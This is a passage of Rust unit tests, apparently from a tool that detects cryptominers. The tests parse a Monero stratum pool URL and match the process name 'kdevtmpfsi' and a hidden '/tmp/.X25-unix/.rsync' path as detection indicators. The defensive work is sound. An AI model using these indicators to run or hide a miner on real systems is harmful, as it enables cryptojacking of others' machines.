            parse_host_port("stratum+tcp://user@pool.supportxmr.com:3333/x"),
            Some(("pool.supportxmr.com".into(), Some(3333)))
        );
        assert_eq!(
            parse_host_port("127.66.0.1:3333"),
            Some(("127.66.0.1".into(), Some(3333)))
        );
        assert_eq!(parse_host_port("--config"), None);
        assert_eq!(split_addr("[::1]:443"), Some(("::1", 443)));
    }

    #[test]
    fn names_with_digit_suffixes() {
        assert!(name_matches("kdevtmpfsi206653195", "kdevtmpfsi"));
        assert!(!name_matches("kdevtmpfsix", "kdevtmpfsi"));
        assert!(has_hidden_component(b"/tmp/.X25-unix/.rsync/c/tsm"));
        assert!(!has_hidden_component(b"/usr/bin/ls"));
    }
}
